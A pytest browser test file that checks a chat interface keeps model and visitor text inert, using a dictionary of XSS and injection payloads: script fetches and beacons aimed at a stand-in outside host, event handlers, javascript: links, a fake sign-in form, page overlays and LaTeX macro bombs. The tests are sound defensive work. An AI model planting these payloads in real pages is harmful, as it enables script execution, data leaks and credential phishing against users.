"""What a model or a visitor may write, in a real browser: it stays text in its bubble, and reaches nobody else."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.visitor import PREFIX, Visitor
from tests.running import App

AWAY = "http://AWAY"  # in its place stands a server of the test, which notes what reaches it

HOSTILE = {
    "script": f"<script>window.hit = 1; fetch('{AWAY}/a')</script><script src='{AWAY}/b.js'></script>",
    "handlers": "<img src=x onerror='window.hit=1'><svg onload='window.hit=1'><circle onclick='window.hit=1' r='9'/></svg>"
    "<details open ontoggle='window.hit=1'><summary>s</summary></details><video><source onerror='window.hit=1'></video>"
    "<input autofocus onfocus='window.hit=1'><body onload='window.hit=1'><marquee onstart='window.hit=1'>m</marquee>",
    "script links": "[press](javascript:window.hit=1) <a href='javascript:window.hit=1'>press</a> "
    "<a href='data:text/html,<script>window.hit=1</script>'>press</a> [press](vbscript:window.hit=1) "
    "<a href=' jAvA\tscript:window.hit=1'>press</a>",
    "beacons": f"![secret]({AWAY}/a.png) <img src='{AWAY}/b.png'><img srcset='{AWAY}/c.png 1x'>"
    f"<picture><source srcset='{AWAY}/d.png'><img></picture><video src='{AWAY}/e.mp4' poster='{AWAY}/f.png' autoplay></video>"
    f"<audio src='{AWAY}/g.mp3' autoplay></audio><div style=\"background:url('{AWAY}/h.png')\">x</div>"
    f"<link rel=stylesheet href='{AWAY}/i.css'><link rel=prefetch href='{AWAY}/j'><table background='{AWAY}/k.png'></table>"
    f"<ul style=\"list-style-image:url('{AWAY}/l.png')\"><li>x</li></ul><input type=image src='{AWAY}/m.png'>",
    "forms": f"<form action='{AWAY}/login'>Your session has ended <input name=password><button>Sign in</button></form>"
    f"<button formaction='{AWAY}/f' form='f'>press</button><form id=f action='{AWAY}'></form>"
    f"<form action='/logout' method=post><button>press</button></form>",
    "overlays": "<div style='position:fixed;inset:0;z-index:99999;background:red'>overlay</div>"
    "<div style='position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;z-index:99999'>overlay</div>"
    "<div style='margin:-9999px;padding:9999px;position:relative;z-index:9999'>overlay</div>"
    "<p style='transform:scale(99)'>overlay</p><dialog open style='position:fixed;inset:0'>overlay</dialog>"
    "<a href='#' style='position:sticky;top:0;display:block;width:100vw;height:100vh'>overlay</a>"
    "<div style='box-shadow:0 0 0 9999px red;outline:9999px solid red'>overlay</div>",
    "the head": f"<meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}/'>"
    f"<title>hit</title><link rel=icon href='{AWAY}/i.png'>",
    "frames": f"<iframe src='{AWAY}'></iframe><iframe srcdoc='<script>parent.hit=1</script>'></iframe>"
    f"<object data='{AWAY}/a.swf'></object><embed src='{AWAY}/b.swf'><frameset><frame src='{AWAY}'></frameset>",
    "styles": f"<style>* {{ display: none !important }} body {{ background: url('{AWAY}/s.png') }}</style>"
    f"<style>@import url('{AWAY}/t.css');</style>",
    "svg": f"<svg><a xlink:href='javascript:window.hit=1'><text x=9 y=9>press</text></a><image href='{AWAY}/a.png'/>"
    f"<use href='{AWAY}/b.svg#x'/><foreignObject><iframe src='{AWAY}'></iframe></foreignObject>"
    "<animate onbegin='window.hit=1' attributeName=x dur=1s /><script>window.hit=1</script></svg>"
    "<math><mtext><table><mglyph><style><img src=x onerror='window.hit=1'></style></mglyph></table></mtext></math>",
    "latex": rf"$\href{{javascript:window.hit=1}}{{press}}$ $\url{{javascript:window.hit=1}}$ "
    rf"$\includegraphics{{{AWAY}/a.png}}$ $\htmlStyle{{position:fixed;inset:0}}{{x}}$ "
    r"$$\def\a{\b\b\b\b\b\b\b\b\b\b}\def\b{\c\c\c\c\c\c\c\c\c\c}\def\c{\d\d\d\d\d\d\d\d\d\d}\def\d{\e\e\e\e\e\e\e\e\e\e}"
    r"\def\e{\f\f\f\f\f\f\f\f\f\f}\def\f{xxxxxxxxxx}\a$$ $\rule{99999em}{99999em}$ $$\kern{99999em}\raise{9999em}{x}$$ "
    r"$\unknown{$ $\frac{",
    "diagrams": f"```mermaid\ngraph TD; A[<img src=x onerror=window.hit=1>]-->B; click A \"javascript:window.hit=1\"\n"
    f"click B href \"{AWAY}\"\n```\n",
    "unclosed": "<div><table><tr><td><b><i><a href='#'><textarea><!-- <select><option><noscript><template><plaintext>",
    "a huge table": "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n" + ("|" + "wide cell|" * 60 + "\n") * 8,
    "a long word": "W" * 3000,
}  # fmt: skip


@pytest.fixture
def away() -> Iterator[Outside]:
    """A server elsewhere."""
    with Outside(("127.0.0.1", 0), Noting) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


class Outside(ThreadingHTTPServer):
    """Notes every request that reaches it."""

    def __init__(self, *given: Any) -> None:
        super().__init__(*given)
        self.asked: list[str] = []

    def place(self, text: str) -> str:
        """A hostile text, with this server as its goal."""
        return text.replace("AWAY", f"127.0.0.1:{self.server_port}")


class Noting(BaseHTTPRequestHandler):
    """Answers nothing of use."""

    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self.send_response(404)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *given: Any) -> None:
        pass


class Watched(Visitor):
    """A visitor's window in which whatever may not happen is noticed."""

    def __init__(self, page: Any, url: str) -> None:
        self.happened: list[str] = []
        page.on("dialog", lambda dialog: (self.happened.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: self.happened.append(f"a window: {popup.url}"))
        page.on(
            "framenavigated",
            lambda frame: self.happened.append(f"a frame: {frame.url}") if frame.url != f"{url}/" else None,
        )
        super().__init__(page, url)
        self.url = url
        self.title = page.title()

    def assert_unharmed(self) -> None:
        """The page is still itself: nothing ran, nothing was asked for, nothing lies over it."""
        assert self.happened == []
        assert self.page.evaluate("window.hit") is None
        assert (self.page.url, self.page.title(), self.page.evaluate("document.baseURI")) == (
            f"{self.url}/",
            self.title,
            f"{self.url}/",
        )
        assert (
            self.page.locator(
                "#conversation :is(script, iframe, object, embed, meta, base, link, form, video, audio, style)"
            ).count()
            == 0
        )
        assert self.page.evaluate(SCHEMES) == []
        assert self.page.evaluate(COVERED) == []
        assert self.page.evaluate("document.documentElement.scrollWidth <= innerWidth")

    def fresh(self) -> None:
        """An empty conversation."""
        self.page.click("#sidebar [data-action=create]")
        self.wait(lambda: not self.questions())

    def press_everything(self) -> None:
        """Presses all that can be pressed in the bubbles."""
        self.page.evaluate(PRESS)
        self.page.wait_for_timeout(100)


SCHEMES = """() => [...document.querySelectorAll("#conversation [href], #conversation [*|href]")]
  .map((e) => e.getAttribute("href") ?? e.getAttribute("xlink:href") ?? "")
  .filter((href) => !/^(https?:|mailto:|about:blank|#|\\/|$)/i.test(href.trim()))"""
# What is seen at a grid of points outside the bubbles must be the page's own.
COVERED = """() => {
  const found = new Set(), box = document.querySelector("#scroller").getBoundingClientRect();
  for (let x = 5; x < innerWidth; x += 40) for (let y = 5; y < innerHeight; y += 20) {
    const top = document.elementFromPoint(x, y);
    const inside = x > box.left && x < box.right && y > box.top && y < box.bottom;
    if (top && !inside && top.closest("#conversation")) found.add(top.outerHTML.slice(0, 120));
  }
  return [...found];
}"""
PRESS = """() => { for (const part of document.querySelectorAll(
  "#conversation :is(.text, .body) :is(a, button, input, img, svg *)")) {
    if (getComputedStyle(part).pointerEvents === "none") continue;
    const link = part.closest("a");
    const goal = link?.getAttribute("href") ?? link?.getAttribute("xlink:href") ?? "";
    if (/^(http|[/#]|$)/.test(goal) && link) continue; // a link that is pressed may lead elsewhere
    part.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    part.focus?.();
} }"""


@pytest.fixture(scope="module")
def watch(browser: Any) -> Iterator[Callable[..., Watched]]:
    contexts = []

    def open_page(app: App, stored: Any = None) -> Watched:
        contexts.append(browser.new_context(viewport={"width": 1280, "height": 800}))
        page = contexts[-1].new_page()
        for key, value in (stored or {}).items():
            page.add_init_script(f"localStorage.setItem({json.dumps(PREFIX + key)}, {json.dumps(json.dumps(value))})")
        return Watched(page, app.url)

    yield open_page
    for context in contexts:
        context.close()


@pytest.fixture(scope="module")
def visitor(watch: Callable[..., Watched], scripted: App) -> Watched:
    """One window for the whole file: what one text does to it, the next one meets."""
    return watch(scripted)


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_written_stays_in_its_bubble(visitor: Watched, away: Outside, name: str) -> None:
    visitor.fresh()
    # The text is the visitor's message and then, piece by piece, the model's reply.
    visitor.say(away.place(HOSTILE[name]))
    visitor.wait(lambda: visitor.idle() and len(visitor.replies()) == 1)
    if name == "diagrams":
        visitor.page.wait_for_selector("#conversation img.drawing")
    visitor.assert_unharmed()
    visitor.press_everything()
    visitor.assert_unharmed()
    assert away.asked == []
    visitor.say("and now?")
    visitor.wait(lambda: visitor.idle() and "and now?" in visitor.replies()[-1], 60)


def node(key: str, parent: str | None, role: str, **more: Any) -> dict[str, Any]:
    return {"id": key, "parent": parent, "role": role, "created": 1, "revised": 1, **more}


def test_stored_conversations_are_as_harmless(watch: Callable[..., Watched], scripted: App, away: Outside) -> None:
    text = away.place("\n\n".join(HOSTILE.values()))
    parts = [{"kind": kind, "text": text, "seconds": text} for kind in ("reasoning", "answer", "tool_call", text)]
    file = {"name": text, "path": away.place("http://AWAY/x.png"), "url": away.place("http://AWAY/y.png")}
    nodes = [
        node("a", None, "user", text=text, files=[{"name": text, "text": text}, file]),
        node("b", "a", "assistant", parts=parts, state=text, figures=text, error=text, notice=text, ended=text),
        node("c", "b", "system", text=text), node("d", "a", text, parts=parts), node(text, text, "user", text=text, files=text),
    ]  # fmt: skip
    whole = {
        "title": text,
        "named": text,
        "created": 1,
        "revised": 1,
        "leaf": "b",
        "system": text,
        "settings": {text: text},
    }
    stored = {
        key: {**whole, "id": key, "nodes": {each["id"]: each for each in nodes}} for key in ("x", 'y"]<img src=x>')
    }
    visitor = watch(scripted, stored)
    visitor.wait(lambda: visitor.page.locator("#sidebar li[data-id]").count() == 2)
    visitor.page.locator("#sidebar .open").last.click()
    visitor.wait(lambda: len(visitor.questions()) == 1)
    visitor.page.wait_for_timeout(500)
    visitor.assert_unharmed()
    visitor.press_everything()
    visitor.assert_unharmed()
    assert away.asked == []


@pytest.mark.parametrize(
    "text", ["a<b and c>d", "if (x < y && y > z) { <T>(t) => t }", "1 <2> 3 </b> & <think>", "<img"]
)
def test_no_text_is_lost_to_angle_brackets(visitor: Watched, text: str) -> None:
    visitor.fresh()
    visitor.say(text)
    visitor.wait(lambda: visitor.idle() and len(visitor.replies()) == 1)
    assert visitor.questions() == [text]
    assert visitor.replies() == [text]


def test_no_manifest_is_fetched_from_elsewhere(browser: Any, scripted: App, away: Outside) -> None:
    page = browser.new_page()
    page.add_init_script(
        "addEventListener('securitypolicyviolation', (found) => window.stopped = found.effectiveDirective)"
    )
    page.goto(scripted.url)
    page.wait_for_selector("#message")
    page.evaluate(
        "(href) => { document.querySelectorAll('[rel=manifest]').forEach((each) => each.remove());"
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href })) }",
        away.place(f"{AWAY}/x.webmanifest"),
    )
    page.context.new_cdp_session(page).send("Page.getAppManifest")  # as when a visitor installs the page
    page.wait_for_function("window.stopped")
    assert (page.evaluate("stopped"), away.asked) == ("manifest-src", [])
    page.context.close()
